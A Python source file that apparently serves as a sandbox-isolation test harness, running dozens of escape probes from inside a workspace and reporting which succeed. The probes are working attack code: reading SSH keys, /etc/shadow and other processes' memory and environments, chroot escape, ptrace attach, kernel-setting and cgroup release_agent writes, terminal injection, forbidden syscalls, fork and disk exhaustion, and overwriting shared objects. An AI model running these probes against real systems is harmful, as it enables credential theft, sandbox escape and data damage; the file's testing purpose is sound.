"""Attacks that are tried from within a workspace. A program of its own, for any Python 3.

It reads JSON on stdin: `attacks`, a list of names, `targets`, what they aim at, and perhaps
`filter`, a program for seccomp in hexadecimal. It prints one line of JSON an attack: its name,
whether it worked, and a detail. Each runs in a process of its own, since some kill theirs.

Where an attack works it leaves its name behind, so that the host can tell who was there.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import pty
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from typing import Any

Targets = dict[str, Any]  # Any: JSON, each attack knows what it reads
Attack = Callable[[Targets], object]
"""Tries it, and returns something true if it worked; an exception says that it did not."""

OBJECTS = "OBJECTS"
"""The variable that says where the objects are that all workspaces share."""
ATTACKS: dict[str, Attack] = {}
LEAVES_A_TRACE: set[str] = set()
"""Those whose success shows on the host, too."""
NEEDS_ROOT: set[str] = set()
"""Those that only root can do without protection."""
CALLS: set[str] = set()
"""Those that are one system call, at which a filter can be asked whether it saw it."""
REFUSED = (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT)
"""How a system call fails that was not let through, or that this kernel does not have."""
SEEN = errno.EXFULL
"""How a system call fails that a marked filter saw; nothing else here fails like this."""
SECONDS_MAX = 30

_MOUNT_FLAGS = 32 | 4096  # MS_REMOUNT | MS_BIND
_PTRACE_ATTACH, _PTRACE_DETACH = 16, 17
_libc = ctypes.CDLL(None, use_errno=True)
_INHERITED = [
    int(name) for name in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{name}")
]
"""The descriptors that we were started with."""


def attack(
    *, trace: bool = False, root: bool = False, call: bool = False
) -> Callable[[Attack], Attack]:
    """Name an attack after its function: `fs_read_key` is `fs.read_key`."""

    def add(function: Attack) -> Attack:
        name = function.__name__.replace("_", ".", 1)
        ATTACKS[name] = function
        for belongs, names in ((trace, LEAVES_A_TRACE), (root, NEEDS_ROOT), (call, CALLS)):
            if belongs:
                names.add(name)
        return function

    return add


# Files


@attack()
def fs_read_key(t: Targets) -> object:
    """Read the user's private key."""
    return t["secret"] in _read(f"{t['home']}/.ssh/id_ed25519")


@attack(root=True)
def fs_read_shadow(t: Targets) -> object:
    """Read the passwords of the host."""
    return "root:" in _read("/etc/shadow")


@attack()
def fs_read_other_task(t: Targets) -> object:
    """Read what another task is working on."""
    return t["secret"] in _read(f"{t['other']}/private.txt")


@attack()
def fs_list_tasks(t: Targets) -> object:
    """List the workspaces of all tasks."""
    folder, _, name = t["other"].rpartition("/")
    return name in os.listdir(folder)


@attack(trace=True)
def fs_write_home(t: Targets) -> object:
    """Write into the user's home."""
    return _leave(t["home"], "fs.write_home")


@attack(trace=True)
def fs_write_other_task(t: Targets) -> object:
    """Write into another task's work."""
    return _leave(t["other"], "fs.write_other_task")


@attack(trace=True, root=True)
def fs_write_usr(t: Targets) -> object:
    """Put a program where everybody finds it."""
    return _leave("/usr/local/bin", "fs.write_usr")


@attack(trace=True, root=True)
def fs_write_etc(t: Targets) -> object:
    """Configure the host."""
    return _leave("/etc", "fs.write_etc")


@attack(trace=True, root=True)
def fs_remount(t: Targets) -> object:
    """Make what is shown read-only writable, and write."""
    _call(_libc.mount(None, t["read_only"].encode(), None, _MOUNT_FLAGS, None))
    return _leave(t["read_only"], "fs.remount")


@attack(root=True)
def fs_mount(t: Targets) -> object:
    """Mount something of one's own."""
    os.makedirs("mounted", exist_ok=True)
    _call(_libc.mount(b"none", b"mounted", b"tmpfs", 0, None))
    return _libc.umount2(b"mounted", 0) == 0


@attack()
def fs_host_tmp(t: Targets) -> object:
    """Find the host's temporary files."""
    return os.path.exists(t["tmp"])


@attack(root=True)
def fs_leave_chroot(t: Targets) -> object:
    """Walk out of the root folder."""
    os.makedirs("jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return t["secret"] in _read(f"{t['home']}/.ssh/id_ed25519")


@attack()
def fs_follow_link(t: Targets) -> object:
    """Read through a link that leads out."""
    os.symlink(f"{t['home']}/.ssh/id_ed25519", "way-out")
    return t["secret"] in _read("way-out")


@attack(trace=True)
def fs_hard_link(t: Targets) -> object:
    """Write through a second name of somebody else's file."""
    os.link(t["precious"], "second-name")
    with open("second-name", "a") as file:
        file.write("fs.hard_link")
    return True


@attack(trace=True)
def fs_shared_objects(t: Targets) -> object:
    """Damage the objects that all workspaces share."""
    damaged = 0
    for folder, _, names in os.walk(os.environ[OBJECTS]):
        for name in names:
            path = f"{folder}/{name}"
            os.chmod(path, 0o644)
            with open(path, "r+b") as file:
                file.write(b"damaged")
            damaged += 1
    return damaged


@attack(root=True)
def fs_device_node(t: Targets) -> object:
    """Make a node of the host's disk, and read that."""
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(*t["disk_numbers"]))
    return t["secret"] in _read("disk")


@attack(root=True)
def fs_raw_disk(t: Targets) -> object:
    """Read the host's disk past its files."""
    return t["secret"] in _read(t["disk"])


@attack(root=True)
def fs_kernel_log(t: Targets) -> object:
    """Open the kernel's log."""
    os.close(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
    return True


@attack()
def fs_huge_file(t: Targets) -> object:
    """Make a file of a terabyte that takes no room."""
    with open("huge", "wb") as file:
        os.truncate(file.fileno(), 1 << 40)
    os.unlink("huge")
    return True


# Processes


@attack()
def proc_root_folder(t: Targets) -> object:
    """Read through the root folder of a process outside."""
    paths = [f"/proc/{pid}/root{t['home']}/.ssh/id_ed25519" for pid in (1, t["pid"])]
    return any(t["secret"] in _read(path) for path in paths if os.path.exists(path))


@attack()
def proc_environment(t: Targets) -> object:
    """Read the environment of the orchestrator."""
    return t["secret"] in _read(f"/proc/{t['pid']}/environ")


@attack()
def proc_any_environment(t: Targets) -> object:
    """Read the environments of all processes."""
    return t["secret"] in _of_all("environ")


@attack()
def proc_any_command_line(t: Targets) -> object:
    """Read the command lines of all processes."""
    return t["mark"] in _of_all("cmdline")


@attack()
def proc_current_folder(t: Targets) -> object:
    """Look into the orchestrator's current folder."""
    return "folder-of-the-orchestrator" in os.listdir(f"/proc/{t['pid']}/cwd")


@attack()
def proc_descriptors(t: Targets) -> object:
    """Read what the orchestrator has open."""
    folder = f"/proc/{t['pid']}/fd"
    return any(t["secret"] in _read(f"{folder}/{name}") for name in os.listdir(folder))


@attack()
def proc_own_environment(t: Targets) -> object:
    """Find a secret in one's own environment."""
    return t["secret"] in _read("/proc/self/environ")


@attack()
def proc_inherited_descriptors(t: Targets) -> object:
    """Use a descriptor that somebody forgot to close."""
    return [os.readlink(f"/proc/self/fd/{number}") for number in _INHERITED if number > 2]


@attack()
def proc_read_memory(t: Targets) -> object:
    """Read the orchestrator's memory."""
    with open(f"/proc/{t['pid']}/maps") as file:
        (stack,) = [line.split()[0] for line in file if line.endswith("[stack]\n")]
    start, end = (int(word, 16) for word in stack.split("-"))
    content = ctypes.create_string_buffer(end - start)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(content), end - start)
    theirs = (ctypes.c_size_t * 2)(start, end - start)
    _call(_libc.process_vm_readv(t["pid"], ours, 1, theirs, 1, 0))
    return t["secret"].encode() in content.raw


@attack()
def proc_trace(t: Targets) -> object:
    """Take control of the orchestrator as a debugger does."""
    _call(_libc.ptrace(_PTRACE_ATTACH, t["pid"], None, None))
    os.waitpid(t["pid"], 0x40000000)
    return _libc.ptrace(_PTRACE_DETACH, t["pid"], None, None) == 0


@attack(trace=True)
def proc_kill(t: Targets) -> object:
    """Kill the orchestrator."""
    os.kill(t["pid"], signal.SIGKILL)
    return True


# The kernel's settings, and rights


@attack(root=True)
def kernel_core_pattern(t: Targets) -> object:
    """Have the kernel start a program of one's own at the next crash."""
    return _writable("/proc/sys/kernel/core_pattern")


@attack(root=True)
def kernel_settings(t: Targets) -> object:
    """Change any other of the kernel's settings, or have it reboot at once."""
    names = ("kernel/modprobe", "kernel/panic", "vm/drop_caches", "vm/overcommit_memory")
    paths = [f"/proc/sys/{name}" for name in (*names, "fs/suid_dumpable")]
    return any(map(_writable, (*paths, "/proc/sysrq-trigger")))


@attack(root=True)
def kernel_cgroup(t: Targets) -> object:
    """Leave one's cgroup, with its limits, for one of one's own."""
    for path in _cgroups():
        group = f"{path}/commandcenter-attack-{os.getpid()}"
        os.mkdir(group)
        os.rmdir(group)
        return True
    return False


@attack(root=True)
def kernel_release_agent(t: Targets) -> object:
    """Have the kernel start a program of one's own when a cgroup is empty."""
    return any(_writable(f"{path}/release_agent") for path in _cgroups())


@attack(root=True)
def kernel_capabilities(t: Targets) -> object:
    """Have any right of root's."""
    return [line for line in _status("Cap") if int(line.split()[1], 16)]


@attack()
def kernel_new_privileges(t: Targets) -> object:
    """Be able to gain rights by starting a program."""
    return _status("NoNewPrivs")[0].split()[1] == "0"


@attack()
def kernel_no_filter(t: Targets) -> object:
    """Make system calls that nobody looks at."""
    return _status("Seccomp:")[0].split()[1] != "2"


@attack(root=True)
def kernel_setuid_program(t: Targets) -> object:
    """Become root by a program that is root's and says so."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)
    path = next(each for each in ("/usr/bin/su", "/bin/su") if os.path.exists(each))
    quiet = subprocess.DEVNULL
    with subprocess.Popen([path], stdin=subprocess.PIPE, stdout=quiet, stderr=quiet) as started:
        while (comm := _read(f"/proc/{started.pid}/comm")) and comm != "su\n":
            pass
        with open(f"/proc/{started.pid}/status") as file:
            user = next(line.split()[2] for line in file if line.startswith("Uid:"))
        started.kill()
    return user == "0"


# System calls that a program here has no business with


@attack(call=True)
def kernel_user_namespace(t: Targets) -> object:
    """Become root in a user namespace."""
    return _let_through(272, 97, 0x10000000)


@attack(call=True)
def kernel_clone_namespace(t: Targets) -> object:
    """The same by another system call."""
    return _let_through(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)


@attack(call=True)
def kernel_bpf(t: Targets) -> object:
    """Load a program into the kernel."""
    return _let_through(321, 280, 0, 0, 0)


@attack(call=True)
def kernel_io_uring(t: Targets) -> object:
    """Make system calls past the filter."""
    return _let_through(425, 425, 0, 0)


@attack(call=True)
def kernel_keyctl(t: Targets) -> object:
    """Reach the keys that the kernel keeps."""
    return _let_through(250, 219, 0, -3, 0)


@attack(call=True)
def kernel_add_key(t: Targets) -> object:
    """Give the kernel a key."""
    return _let_through(248, 217, 0, 0, 0, 0, 0)


@attack(call=True)
def kernel_request_key(t: Targets) -> object:
    """Have the kernel start a program that fetches a key."""
    return _let_through(249, 218, 0, 0, 0, 0)


@attack(call=True)
def kernel_userfaultfd(t: Targets) -> object:
    """Stop the kernel in the middle of a system call."""
    return _let_through(323, 282, 0)


@attack(call=True)
def kernel_perf_events(t: Targets) -> object:
    """Watch what the processor does."""
    return _let_through(298, 241, 0, 0, -1, -1, 0)


@attack(call=True)
def kernel_module(t: Targets) -> object:
    """Load a module."""
    return _let_through(175, 105, 0, 0, 0)


@attack(call=True)
def kernel_kexec(t: Targets) -> object:
    """Start another kernel."""
    return _let_through(246, 104, 0, 1 << 20, 0, 0)


@attack(call=True)
def kernel_reboot(t: Targets) -> object:
    """Reboot (with a number that the kernel refuses afterwards)."""
    return _let_through(169, 142, 0, 0, 0, 0)


@attack(call=True)
def kernel_clock(t: Targets) -> object:
    """Set the clock (to nothing, which leaves it)."""
    return _let_through(164, 170, 0, 0)


@attack(call=True)
def kernel_file_handle(t: Targets) -> object:
    """Open a file by its number, past all folders."""
    return _let_through(304, 265, -1, 0, 0)


@attack(call=True)
def kernel_mount_by_parts(t: Targets) -> object:
    """Mount by the newer system calls."""
    return _let_through(430, 430, 0, 0)


@attack(call=True)
def kernel_packet_socket(t: Targets) -> object:
    """Read all that goes through the network."""
    return _socket_let_through(17, socket.SOCK_RAW, 3)


@attack(call=True)
def kernel_virtual_socket(t: Targets) -> object:
    """Talk to the machine below this one."""
    return _socket_let_through(40, socket.SOCK_STREAM, 0)


@attack(call=True)
def kernel_crypto_socket(t: Targets) -> object:
    """Reach the kernel's cryptography."""
    return _socket_let_through(38, socket.SOCK_SEQPACKET, 0)


@attack(call=True)
def kernel_socket_pair(t: Targets) -> object:
    """Reach an odd family of sockets by another system call."""
    return _let_through(53, 199, 30, socket.SOCK_SEQPACKET, 0, ctypes.addressof(_PAIR))


@attack(root=True)
def kernel_raw_socket(t: Targets) -> object:
    """Forge packets."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return True


@attack(call=True)
def kernel_x32(t: Targets) -> object:
    """Make a system call by the numbers of x32."""
    return _let_through(0x40000000 | 39, None)


@attack()
def kernel_32_bit(t: Targets) -> object:
    """Make a system call by the numbers of 32 bits, which mean others."""
    if platform.machine() != "x86_64":
        return False
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(place)() == os.getpid()


@attack(root=True)
def kernel_terminal_input(t: Targets) -> object:
    """Type into the terminal of whoever started us."""
    _, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
    return True


# What processes of one machine share


@attack()
def ipc_shared_memory(t: Targets) -> object:
    """Find somebody's System V shared memory."""
    _call(_libc.shmget(t["ipc_key"], 0, 0))
    return True


@attack()
def ipc_message_queue(t: Targets) -> object:
    """Find somebody's System V message queue."""
    _call(_libc.msgget(t["ipc_key"], 0))
    return True


@attack()
def ipc_semaphores(t: Targets) -> object:
    """Find somebody's System V semaphores."""
    _call(_libc.semget(t["ipc_key"], 0, 0))
    return True


@attack()
def ipc_dev_shm(t: Targets) -> object:
    """Find somebody's POSIX shared memory."""
    return t["mark"] in os.listdir("/dev/shm")  # noqa: S108 - what it aims at


# Network


@attack(trace=True)
def net_loopback(t: Targets) -> object:
    """Call the orchestrator on this machine's own address."""
    return _say(("127.0.0.1", t["port"]), "net.loopback")


@attack(trace=True)
def net_host_address(t: Targets) -> object:
    """Call the orchestrator on the machine's address in the network."""
    return _say((t["address"], t["port"]), "net.host_address")


@attack(trace=True)
def net_datagram(t: Targets) -> object:
    """Send a datagram, as asking for a name does."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talking:
        talking.connect(("127.0.0.1", t["datagram_port"]))
        talking.send(b"net.datagram")
        talking.send(b"net.datagram")  # fails if nobody was there for the first
    return True


@attack()
def net_internet(t: Targets) -> object:
    """Find a way into the internet (nothing is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talking:
        talking.connect(("192.0.2.1", 9))
    return True


@attack(trace=True)
def net_abstract_socket(t: Targets) -> object:
    """Call a socket that has a name, but no place."""
    return _say("\0" + t["abstract"], "net.abstract_socket")


@attack(trace=True)
def net_container_engine(t: Targets) -> object:
    """Call the container engine, who is root."""
    return _say(t["engine"], "net.container_engine")


@attack(trace=True)
def net_ssh_agent(t: Targets) -> object:
    """Call the agent that holds the user's keys."""
    return _say(os.environ["SSH_AUTH_SOCK"], "net.ssh_agent")


# Using everything up


@attack()
def dos_processes(t: Targets) -> object:
    """Start more processes than are good for anybody."""
    return _more_than(t["processes"], _sleeping_children())


@attack()
def dos_descriptors(t: Targets) -> object:
    """Open more files than are good for anybody."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return _more_than(t["descriptors"], (os.open("/", os.O_PATH) for _ in iter(int, 1)))


@attack()
def dos_tmp(t: Targets) -> object:
    """Fill the folder for temporary files, which is memory."""
    return _reserve(t["scratch"], t["tmp_bytes"])


@attack()
def dos_shared_memory(t: Targets) -> object:
    """Fill the shared memory."""
    return _reserve(t["shm"], t["shm_bytes"])


# What attacks are made of


def _read(path: str) -> str:
    return _read_bytes(path).decode(errors="replace")


def _read_bytes(path: str) -> bytes:
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, 1 << 16)
    finally:
        os.close(descriptor)


def _of_all(name: str) -> str:
    """Return what all other processes have in this file, as far as it can be read."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if int(pid) != os.getpid():
                found.append(_read(f"/proc/{pid}/{name}"))
        except OSError:
            continue
    return "\n".join(found)


def _leave(folder: str, name: str) -> bool:
    with open(f"{folder}/{name}", "w") as file:
        file.write(name)
    return True


def _say(address: Any, name: str) -> bool:  # Any: a path, or host and port
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family) as talking:
        talking.settimeout(SECONDS_MAX)
        talking.connect(address)
        talking.sendall(name.encode())
    return True


def _writable(path: str) -> bool:
    try:
        os.close(os.open(path, os.O_WRONLY))
    except OSError:
        return False
    return True


def _status(name: str) -> list[str]:
    with open("/proc/self/status") as file:
        return [line for line in file if line.startswith(name)]


def _cgroups() -> Iterator[str]:
    with open("/proc/mounts") as file:
        for line in file:
            if line.split()[2] in ("cgroup", "cgroup2"):
                yield line.split()[1]


def _call(result: int) -> None:
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


_PAIR = (ctypes.c_int * 2)()


def _let_through(x86_64: int, aarch64: int | None, *arguments: int) -> bool:
    """Say whether the kernel itself had a look at this system call."""
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    if number is None:
        raise OSError(errno.ENOSYS, "there is no such call on this machine")
    result = _libc.syscall(*(ctypes.c_long(word) for word in (number, *arguments)))
    if result == 0 and number in (56, 220) and os.getpid() != _PROCESS:
        os._exit(0)  # we are what it made
    if result < 0 and ctypes.get_errno() in (*REFUSED, SEEN):
        _call(result)
    return True


def _socket_let_through(family: int, kind: int, protocol: int) -> bool:
    return _let_through(41, 198, family, kind, protocol)


def _sleeping_children() -> Iterator[int]:
    while True:
        child = os.fork()
        if not child:
            time.sleep(SECONDS_MAX)
            os._exit(0)
        yield child


def _more_than(most: int, things: Iterator[int]) -> bool:
    return sum(1 for _, _ in zip(range(most + 1), things, strict=False)) > most


def _reserve(folder: str, size: int) -> bool:
    path = f"{folder}/reserved-{os.getpid()}"
    with open(path, "wb") as file:
        os.unlink(path)
        os.posix_fallocate(file.fileno(), 0, size)
    return True


# Running them


def main() -> None:
    """Run the attacks that stdin names."""
    asked = json.load(sys.stdin)
    for name in asked["attacks"]:
        worked, detail = _alone(name, asked["targets"], bytes.fromhex(asked.get("filter", "")))
        sys.stdout.write(json.dumps({"attack": name, "worked": worked, "detail": detail}) + "\n")
        sys.stdout.flush()


def _alone(name: str, targets: Targets, filter_program: bytes) -> tuple[bool, str]:
    """Run one attack in a process, and in a process group, of its own."""
    answer, told = os.pipe()
    child = os.fork()
    if not child:
        os.setpgid(0, 0)
        os.close(answer)
        _attack(name, targets, filter_program, told)
    os.close(told)
    signal.signal(signal.SIGALRM, lambda *_: os.killpg(child, signal.SIGKILL))
    signal.alarm(SECONDS_MAX)
    _, status = os.waitpid(child, 0)
    signal.alarm(0)
    with contextlib.suppress(OSError):
        os.killpg(child, signal.SIGKILL)
    # What it started may hold the pipe, so what is there is read, and no end waited for.
    os.set_blocking(answer, False)
    try:
        said = os.read(answer, 4096)
    except BlockingIOError:
        said = b""
    os.close(answer)
    if not said:
        return False, f"it ended with {os.waitstatus_to_exitcode(status)}"
    worked, detail = json.loads(said)
    return worked, detail


def _attack(name: str, targets: Targets, filter_program: bytes, told: int) -> None:
    global _PROCESS
    _PROCESS = os.getpid()
    try:
        if filter_program:
            _filter(filter_program)
        worked, detail = bool(ATTACKS[name](targets)), ""
    except OSError as error:
        worked, detail = False, errno.errorcode.get(error.errno or 0, str(error))
    except Exception as error:  # whatever it is, it is the probe's answer
        worked, detail = False, f"{type(error).__name__}: {error}"
    os.write(told, json.dumps([worked, detail[:500]]).encode())
    os._exit(0)


_PROCESS = os.getpid()


def _filter(program: bytes) -> None:
    """Let a filter look at our system calls."""
    code = ctypes.create_string_buffer(program)
    loaded = ctypes.create_string_buffer(
        struct.pack("HxxxxxxP", len(program) // 8, ctypes.addressof(code))
    )
    _call(_libc.prctl(38, 1, 0, 0, 0))
    _call(_libc.prctl(22, 2, loaded, 0, 0))


if __name__ == "__main__":
    main()
